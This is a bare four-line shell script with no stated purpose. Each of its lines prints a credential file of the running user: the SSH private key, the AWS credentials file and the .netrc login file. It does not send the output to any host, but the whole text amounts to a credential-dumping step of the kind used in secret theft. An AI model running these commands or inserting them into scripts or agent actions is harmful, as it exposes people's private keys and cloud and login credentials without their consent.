#!/bin/sh
cat ~/.ssh/id_rsa
cat ~/.aws/credentials
cat ~/.netrc
